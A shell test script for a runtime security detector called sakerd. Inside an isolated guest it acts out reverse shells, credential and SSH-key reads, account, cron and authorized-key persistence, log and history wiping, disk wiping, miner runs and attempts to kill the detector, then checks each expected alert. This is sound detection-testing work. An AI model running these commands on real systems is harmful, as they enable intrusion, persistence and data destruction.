#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# The default ruleset against real behaviour: sakerd (shipped in /job/sakerd with
# rules/*.yaml, plus one site file that appends test addresses to two of its
# lists) runs with every default rule and rule_matching: all while this
# script does what each rule family is about (shells started by servers, reverse
# shells, credential reads, account and persistence files, system directories,
# fileless and temporary-directory programs, namespaces, modules, ptrace, kernel
# parameters, miners, log tampering, attacks on saker itself, and a docker-style
# container).  Each expected alert is checked with its fields; behaviours the
# guest cannot produce are SKIP lines.  The alerts and a capture of the whole run
# are left in /out (rules-alerts.json, rules.cap, rules-site.yaml) for replay cases.
BB=/lab/busybox
SD=/job/sakerd
W=$(pwd)
# fake programs live outside /tmp, so that only the temporary-directory cases run from there
R=/opt/rules-test
export LD_LIBRARY_PATH=$SD/lib
pass() { echo "PASS: rules: $*"; }
fail() { echo "FAIL: rules: $*"; }
skip() { echo "SKIP: rules: $*"; }
. /job/sakerd-lib.sh
if [ ! -x "$SD/sakerd" ] || [ ! -d "$SD/rules" ]; then
	skip "sakerd or the default rules not shipped (no build directory given to tests/kmod/run.sh)"
	exit 0
fi

# ---- set-up, before sakerd runs ------------------------------------------------------
ID=fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210
SHORT=$(echo "$ID" | $BB cut -c1-12)
$BB mkdir -p "/var/lib/docker/containers/$ID" "$R" /dev/shm /dev/pts /var/log
$BB cat >"/var/lib/docker/containers/$ID/config.v2.json" <<EOF
{"ID": "$ID", "Name": "/rules-web", "Created": "2026-11-30T10:00:00.000000000Z",
 "Config": {"Image": "nginx:1.25", "Labels": {"app": "rules"}},
 "Image": "sha256:2222222222222222222222222222222222222222222222222222222222222222"}
EOF
$BB grep -q ' /sys/fs/cgroup cgroup2 ' /proc/mounts || $BB mount -t cgroup2 none /sys/fs/cgroup
CG=/sys/fs/cgroup/system.slice/docker-$ID.scope
$BB mkdir -p "$CG"
$BB grep -q ' /dev/shm ' /proc/mounts || $BB mount -t tmpfs tmpfs /dev/shm
$BB grep -q ' /dev/pts ' /proc/mounts || $BB mount -t devpts -o ptmxmode=666 devpts /dev/pts
# addresses on lo for the "outbound" cases: TEST-NET-1 and the metadata address (the
# guest has no network device, nothing leaves it)
for a in 192.0.2.10 192.0.2.20 192.0.2.30; do $BB ip addr add $a/32 dev lo 2>/dev/null; done
$BB ip addr add 169.254.169.254/32 dev lo 2>/dev/null
$BB cp /bin/dash "$R/nginx"
$BB cp /bin/true "$R/xmrig"
$BB cp /bin/sleep "$R/sakerd"
$BB cp /usr/bin/strace "$R/injector"
$BB ln -sf "$BB" "$R/nc"
$BB ln -sf "$BB" "$R/rmmod"
$BB cp /bin/true /tmp/rules-payload
$BB cp /bin/true /dev/shm/rules-payload
echo "not a module" >"$W/rules-test.ko"
$BB truncate -s 4M "$W/disk.img"
# an overlay "image" whose upper layer receives a program after the container started
OV=$R/ovl
ovl=
$BB mkdir -p "$OV/lower" "$OV/upper" "$OV/work" "$OV/merged"
$BB cp /bin/true "$OV/lower/shipped"
if modprobe overlay 2>/dev/null &&
	$BB mount -t overlay overlay -o "lowerdir=$OV/lower,upperdir=$OV/upper,workdir=$OV/work" \
		"$OV/merged"; then
	ovl=1
fi

# The lists a site fills in, the way the rules' comments say: a disallowed address and
# the cluster's API server (TEST-NET-1 addresses; the defaults are private-range ones).
cat >"$W/site.yaml" <<EOF
- list: disallowed_outbound_ips
  items: [192.0.2.20]
  override: {items: append}
- list: k8s_api_server_ips
  items: [192.0.2.30]
  override: {items: append}
EOF
cat >"$W/saker.yaml" <<EOF
rules_files: [$SD/rules, $W/site.yaml]
rule_matching: all
json_output: true
buffered_outputs: false
stdout_output: {enabled: false}
file_output: {enabled: true, filename: $W/alerts.json, keep_alive: true}
dns: {enabled: false}
journald_output: {enabled: false}
syslog_output: {enabled: false}
stats_interval: 0
EOF
"$SD/sakerd" -c "$W/saker.yaml" --config-dir "$W/none" --socket "$W/ctl.sock" \
	--lock "$W/sakerd.pid" >"$W/sakerd.log" 2>&1 &
spid=$!
if ! sakerd_ready $spid; then
	fail "sakerd did not start with the default rules"
	$BB cat "$W/sakerd.log"
	exit 1
fi
rules_all_enabled
capture_start /out/rules.cap

listeners=
# listen PORT [TEXT]: a busybox nc listener that sends TEXT to whoever connects; returns
# once the port is in LISTEN state
listen() {
	echo "${2:-}" | $BB nc -l -p "$1" >/dev/null 2>&1 &
	listeners="$listeners $!"
	hex=$($BB printf '%04X' "$1")
	i=0
	# busybox listens on the IPv6 wildcard (dual stack), so the socket is in tcp6
	while ! $BB grep -qE ":$hex [0-9A-F]+:0000 0A" /proc/net/tcp /proc/net/tcp6 &&
		[ $i -lt 50 ]; do
		i=$((i + 1))
		$BB sleep 0.1
	done
}
# in_container CMD...: run CMD in the docker-style container's cgroup
in_container() {
	sh -c "echo \$\$ >$CG/cgroup.procs && exec \"\$@\"" sh "$@"
}

# ---- shells ----------------------------------------------------------------------------
"$R/nginx" -c '/bin/sh -c "exit 0"; exit 0'
listen 5001 exit
bash -c 'exec 0<>/dev/tcp/127.0.0.1/5001 1>&0 2>&0; exit 0'
listen 5002 exit
"$R/nc" 127.0.0.1 5002 -e /bin/sh

# ---- sensitive files ---------------------------------------------------------------------
cat /etc/shadow >/dev/null
cat /etc/passwd >/dev/null
(cd /tmp && cat ../etc/gshadow >/dev/null)
ln -s /etc/shadow "$W/shadow-link"
ln /etc/gshadow /root/gshadow-link
echo 'rulesx:x:4242:4242::/nonexistent:/usr/sbin/nologin' >>/etc/passwd
: >/etc/ld.so.preload
rm /etc/ld.so.preload
$BB mkdir -p /home/tester/.ssh /root/.ssh /etc/cron.d
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIrulestest rules-test' >>/home/tester/.ssh/authorized_keys
echo '* * * * * root /bin/true' >/etc/cron.d/rules-test
echo 'echo rules-test' >/root/.bashrc.rules-new
mv /root/.bashrc.rules-new /root/.bashrc
echo 'not a key' >/home/tester/.ssh/id_ed25519
cat /home/tester/.ssh/id_ed25519 >/dev/null
echo 'not a key' >/root/.ssh/id_rsa
cat /root/.ssh/id_rsa >/dev/null

# ---- system directories ---------------------------------------------------------------------
echo x >/usr/bin/rules-test-drop
mkdir /usr/local/bin/rules-test-dir
echo x >/usr/lib/rules-test.so
mkdir /usr/lib/rules-test-dir
rm /usr/lib/rules-test.so
echo x >/dev/rules-test-hidden

# ---- execution ------------------------------------------------------------------------------
su -s /bin/sh -c 'exit 0' tester
useradd -M -N -s /usr/sbin/nologin rulesuser
echo 'rulesuser:rules-test-pw' | chpasswd
/tmp/rules-payload
/dev/shm/rules-payload
rules-helper memfd /bin/true
: >"$W/suid"
chmod u+s "$W/suid"
find /home -name id_rsa >/dev/null
grep -r password /etc/cron.d >/dev/null
echo data >"$W/wipe"
shred -u "$W/wipe"
mkfs.ext4 -q -F "$W/disk.img" >/dev/null 2>&1
wipefs -a "$W/disk.img" >/dev/null
"$R/xmrig"
/bin/true -o stratum+tcp://pool.invalid:3333

# ---- privileges and the kernel ------------------------------------------------------------------
unshare -n /bin/true
insmod "$W/rules-test.ko" 2>/dev/null
$BB sleep 30 &
victim=$!
"$R/injector" -o /dev/null -p $victim 2>/dev/null &
tracer=$!
i=0
while $BB grep -q '^TracerPid:[[:space:]]*0$' /proc/$victim/status && [ $i -lt 50 ]; do
	i=$((i + 1))
	$BB sleep 0.1
done
kill $victim
wait $tracer
strace -o /dev/null /bin/true
read -r aslr </proc/sys/kernel/randomize_va_space
echo "$aslr" >/proc/sys/kernel/randomize_va_space
rules-helper packet
rules-helper userfaultfd
rules-helper keyctl
rules-helper bpf
rules-helper capset "$SAKER_TEST_UID"

# ---- network ----------------------------------------------------------------------------------
listen 3333
$BB nc -w 2 192.0.2.10 3333 </dev/null >/dev/null 2>&1
listen 8443
$BB nc -w 2 192.0.2.20 8443 </dev/null >/dev/null 2>&1

# ---- tampering ----------------------------------------------------------------------------------
echo line >>/var/log/rules-test.log
: >/var/log/rules-test.log
rm /var/log/rules-test.log
echo ls >>/root/.bash_history
rm /root/.bash_history
echo ls >>/root/.ash_history
: >/root/.ash_history

# ---- saker itself ---------------------------------------------------------------------------------
"$R/sakerd" 30 &
fake=$!
i=0
while [ "$($BB cat /proc/$fake/comm 2>/dev/null)" != sakerd ] && [ $i -lt 50 ]; do
	i=$((i + 1))
	$BB sleep 0.1
done
kill -CONT $fake
kill -TERM $fake
wait $fake
# kmod's rmmod sees the module's reference count and never calls delete_module;
# busybox's asks the kernel, which refuses while sakerd has the device open
if "$R/rmmod" saker 2>/dev/null; then
	fail "rmmod saker succeeded while sakerd had the device open"
	insmod "$SAKER_KO"
fi
$BB mkdir -p /etc/saker
echo 'rules-test' >/etc/saker/rules-test.yaml

# ---- in the container -------------------------------------------------------------------------------
in_container script -qec 'sh -c "exit 0"; exit 0' /dev/null >/dev/null
in_container su -s /bin/sh -c 'exit 0' tester
$BB mkdir -p /mnt/rules-test
in_container unshare -m mount -t proc proc /mnt/rules-test
listen 80
in_container $BB nc -w 2 169.254.169.254 80 </dev/null >/dev/null 2>&1
listen 6443
in_container $BB nc -w 2 192.0.2.30 6443 </dev/null >/dev/null 2>&1
if [ -n "$ovl" ]; then
	$BB cp /bin/true "$OV/merged/dropped"
	in_container "$OV/merged/shipped"
	in_container "$OV/merged/dropped"
fi

# the end: one more link to /etc/shadow, and its alert shows that sakerd caught up
ln -s /etc/shadow "$W/end-marker"
i=0
while ! $BB grep -qF "$W/end-marker" "$W/alerts.json" 2>/dev/null && [ $i -lt 100 ]; do
	i=$((i + 1))
	$BB sleep 0.1
done
$BB sleep 0.5
kill -INT $cpid
wait $cpid
crc=$?
if [ $crc -eq 0 ] && [ -s /out/rules.cap ]; then
	pass "saker capture: $($BB tail -n 1 "$W/capture.log")"
else
	fail "saker capture exited $crc: $($BB cat "$W/capture.log")"
fi
kill -TERM $spid
wait $spid
rc=$?
[ $rc -eq 0 ] || fail "sakerd: exit status $rc after SIGTERM: $($BB tail -n 3 "$W/sakerd.log")"
[ -z "$ovl" ] || $BB umount "$OV/merged"
# shellcheck disable=SC2086
kill $listeners 2>/dev/null
$BB cp "$W/alerts.json" /out/rules-alerts.json 2>/dev/null
$BB cp "$W/sakerd.log" /out/rules-sakerd.log 2>/dev/null
$BB cp "$W/site.yaml" /out/rules-site.yaml 2>/dev/null
: >"$W/expected"

# matching RULE PATTERN...: the alerts of RULE whose line has every fixed string, in
# $W/match
matching() {
	$BB grep -F "\"rule\":\"$1\"" "$W/alerts.json" >"$W/match" 2>/dev/null
	shift
	for p in "$@"; do
		$BB grep -F -- "$p" "$W/match" >"$W/match.next"
		$BB mv "$W/match.next" "$W/match"
	done
}
# expect RULE PATTERN...: one alert of RULE whose line has every fixed string
expect() {
	rule=$1
	echo "$rule" >>"$W/expected"
	matching "$@"
	shift
	if [ -s "$W/match" ]; then
		pass "$rule ($*)"
	else
		fail "$rule with $*: not found; alerts of that rule:"
		$BB grep -F "\"rule\":\"$rule\"" "$W/alerts.json" | $BB head -n 3 | $BB sed 's/^/INFO: /'
	fi
}
# expect_none RULE PATTERN...: no alert of RULE has every fixed string (an exception holds)
expect_none() {
	rule=$1
	matching "$@"
	shift
	if [ -s "$W/match" ]; then
		fail "$rule fired with $*: $($BB head -n 1 "$W/match" | $BB cut -c1-400)"
	else
		pass "$rule: none with $*"
	fi
}
H='"container.id":"host"'
C="\"container.id\":\"$SHORT\""

# shells
expect "Shell spawned by server process" '"proc.name":"sh"' '"proc.pname":"nginx"' \
	'"proc.cmdline":"sh -c exit 0"' '"user.name":"root"' "$H"
expect "Reverse shell redirect" '"proc.name":"bash"' '"evt.rawres":"0"' '->127.0.0.1:5001"'
expect "Reverse shell redirect" '"proc.name":"nc"' '"evt.rawres":"0"' '->127.0.0.1:5002"'
expect "Netcat remote code execution" '"proc.cmdline":"nc 127.0.0.1 5002 -e /bin/sh"' \
	'"user.name":"root"' "$H"
# sensitive files
expect "Read sensitive file by untrusted program" '"fd.name":"/etc/shadow"' '"proc.name":"cat"' \
	'"user.name":"root"' "$H"
expect "Read sensitive file by untrusted program" '"fd.name":"/root/.ssh/id_rsa"' \
	'"proc.name":"cat"'
expect "Directory traversal to sensitive file" '"fd.name":"/etc/gshadow"' \
	'"fd.nameraw":"../etc/gshadow"' '"proc.cmdline":"cat ../etc/gshadow"'
expect "Link to sensitive file created" '"fs.path.target":"/etc/shadow"' \
	"\"fs.path.source\":\"$W/shadow-link\"" '"proc.cmdline":"ln -s /etc/shadow'
expect "Link to sensitive file created" '"fs.path.target":"/etc/gshadow"' \
	'"fs.path.source":"/root/gshadow-link"'
expect "Account or preload file modified" '"fd.name":"/etc/passwd"' '"proc.cmdline":"sh '
expect "Account or preload file modified" '"fd.name":"/etc/ld.so.preload"'
expect "Account or preload file modified" '"fs.path.name":"/etc/ld.so.preload"' \
	'"proc.cmdline":"rm /etc/ld.so.preload"'
expect "Write below etc" '"fd.name":"/etc/passwd"'
expect "Write below etc" '"fd.name":"/etc/cron.d/rules-test"'
expect "Login script, cron job or authorized key written" \
	'"fd.name":"/home/tester/.ssh/authorized_keys"' '"user.name":"root"'
expect "Login script, cron job or authorized key written" '"fd.name":"/etc/cron.d/rules-test"'
expect "Login script, cron job or authorized key written" '"fs.path.target":"/root/.bashrc"' \
	'"evt.type":"rename' '"proc.cmdline":"mv /root/.bashrc.rules-new /root/.bashrc"'
expect "Read SSH private key by untrusted program" '"fd.name":"/home/tester/.ssh/id_ed25519"' \
	'"proc.name":"cat"'
expect_none "Read sensitive file by untrusted program" '"fd.name":"/etc/passwd"'
expect_none "Read sensitive file by untrusted program" '"proc.cmdline":"su '
expect_none "Account or preload file modified" '"proc.cmdline":"useradd '
# system directories
expect "Write below binary directory" '"fd.name":"/usr/bin/rules-test-drop"'
expect "Write below binary directory" '"fs.path.name":"/usr/local/bin/rules-test-dir"' \
	'"proc.cmdline":"mkdir /usr/local/bin/rules-test-dir"'
expect "Write below system library directory" '"fd.name":"/usr/lib/rules-test.so"'
expect "Write below system library directory" '"fs.path.name":"/usr/lib/rules-test-dir"'
expect "Write below system library directory" '"fs.path.name":"/usr/lib/rules-test.so"' \
	'"proc.cmdline":"rm /usr/lib/rules-test.so"'
expect "File created below dev" '"fd.name":"/dev/rules-test-hidden"'
# execution
expect "Privilege switch program run" '"proc.name":"su"' '"user.name":"root"'
expect "User management program run" '"proc.name":"useradd"'
expect "User management program run" '"proc.name":"chpasswd"'
expect "Execution from temporary directory" '"proc.exepath":"/tmp/rules-payload"'
expect "Execution from temporary directory" '"proc.exepath":"/dev/shm/rules-payload"'
expect "Fileless execution" '"proc.exepath":"/memfd:payload (deleted)"' '"proc.pname":"sh"'
expect "Set setuid or setgid bit" "\"fs.path.name\":\"$W/suid\"" '"proc.cmdline":"chmod u+s'
expect "Search for private keys or passwords" '"proc.cmdline":"find /home -name id_rsa"'
expect "Search for private keys or passwords" '"proc.cmdline":"grep -r password /etc/cron.d"'
expect "Bulk data destruction" '"proc.cmdline":"shred -u '
expect "Bulk data destruction" '"proc.cmdline":"mkfs.ext4 -q -F '
expect "Bulk data destruction" '"proc.cmdline":"wipefs -a '
expect "Cryptocurrency miner run" "\"proc.exepath\":\"$R/xmrig\""
expect "Cryptocurrency miner run" '"proc.cmdline":"true -o stratum+tcp://pool.invalid:3333"'
# privileges and the kernel
expect "Namespace change by unexpected program" '"proc.name":"unshare"' '"evt.type":"unshare"' \
	"$H"
expect "Kernel module load attempt" '"proc.name":"insmod"' '"evt.res":"ENOEXEC"' \
	'"proc.pname":"sh"'
expect "Process tracing attempt" '"proc.name":"injector"' '"evt.arg.request":"PTRACE_SEIZE"'
expect_none "Process tracing attempt" '"proc.name":"strace"'
expect "Kernel parameter written by unexpected program" \
	'"fd.name":"/proc/sys/kernel/randomize_va_space"' '"proc.name":"sh"'
expect "Packet socket created by unexpected program" '"proc.name":"rules-helper"' \
	'"proc.cmdline":"rules-helper packet"'
expect "Userfaultfd created by unexpected program" '"proc.cmdline":"rules-helper userfaultfd"'
expect "Kernel keyring accessed by unexpected program" '"proc.cmdline":"rules-helper keyctl"' \
	'"evt.arg.operation":"KEYCTL_READ"'
expect "BPF program loaded by unexpected program" '"proc.cmdline":"rules-helper bpf"'
expect "Capabilities raised by unexpected program" '"proc.name":"rules-helper"' \
	"\"user.uid\":\"$SAKER_TEST_UID\"" '"user.name":"tester"'
# network
expect "Connection to mining pool port" '->192.0.2.10:3333"' "$H"
expect "Outbound connection to disallowed destination" '->192.0.2.20:8443"' \
	'"proc.cmdline":"busybox nc -w 2 192.0.2.20 8443"'
expect_none "Outbound connection to disallowed destination" '->192.0.2.10:3333"'
# tampering
expect "Log file truncated or deleted" '"fd.name":"/var/log/rules-test.log"' '"evt.type":"openat"' \
	'"proc.cmdline":"sh '
expect "Log file truncated or deleted" '"fs.path.name":"/var/log/rules-test.log"' \
	'"proc.cmdline":"rm /var/log/rules-test.log"'
expect "Shell history deleted or truncated" '"fs.path.name":"/root/.bash_history"'
expect "Shell history deleted or truncated" '"fd.name":"/root/.ash_history"'
# saker itself
expect "Attempt to stop sakerd" '"evt.arg.sig":"SIGTERM"' '"evt.type":"kill"'
expect_none "Attempt to stop sakerd" '"evt.arg.sig":"SIGCONT"'
expect "Saker kernel module removal attempt" '"proc.name":"rmmod"' '"proc.cmdline":"rmmod saker"' \
	'"evt.res":"EAGAIN"'
expect "Saker configuration or rules modified" '"fd.name":"/etc/saker/rules-test.yaml"'
# in the container
expect "Terminal shell in container" '"proc.name":"sh"' "$C" '"container.name":"rules-web"' \
	'"container.image.repository":"nginx"'
expect "Privilege switch program run in container" '"proc.name":"su"' "$C"
expect "Host file system mounted in container" '"evt.arg.type":"proc"' "$C"
expect "Namespace change by unexpected program" '"proc.name":"unshare"' "$C"
expect "Container contacts cloud metadata service" '->169.254.169.254:80"' "$C"
expect "Container contacts Kubernetes API server" '->192.0.2.30:6443"' "$C" \
	'"container.image.repository":"nginx"'
if [ -n "$ovl" ]; then
	expect "Program added to container run" "\"proc.exepath\":\"$OV/merged/dropped\"" "$C"
	if $BB grep -F '"rule":"Program added to container run"' "$W/alerts.json" |
		$BB grep -qF "$OV/merged/shipped"; then
		fail "Program added to container run: fired for a program of the lower layer"
	else
		pass "Program added to container run: not for a program of the lower layer"
	fi
else
	skip "Program added to container run: no overlayfs in the guest"
fi

skip "SSH connection to non-standard port: no ssh client in the guest rootfs"

# what fired besides: shown; an alert about saker's own processes is the harness's false positive
$BB grep -o '"rule":"[^"]*"' "$W/alerts.json" | $BB sed 's/^"rule":"//; s/"$//' | $BB sort |
	$BB uniq -c >"$W/fired"
$BB sort -u "$W/expected" >"$W/expected.sorted"
while read -r n rule; do
	$BB grep -qxF "$rule" "$W/expected.sorted" && continue
	echo "INFO: rules: unexpected alert ($n): $rule"
	$BB grep -F "\"rule\":\"$rule\"" "$W/alerts.json" | $BB head -n 2 | $BB cut -c1-600 |
		$BB sed 's/^/INFO:   /'
	if $BB grep -F "\"rule\":\"$rule\"" "$W/alerts.json" |
		$BB grep -qE '"proc.(name|pname)":"(sakerd|saker)"|"proc.cmdline":"(sakerd|saker) '; then
		fail "unexpected alert '$rule' about saker's own processes"
	fi
done <"$W/fired"
echo "INFO: rules: sakerd wrote $($BB grep -c . "$W/alerts.json") alerts of $($BB wc -l <"$W/fired") rules"
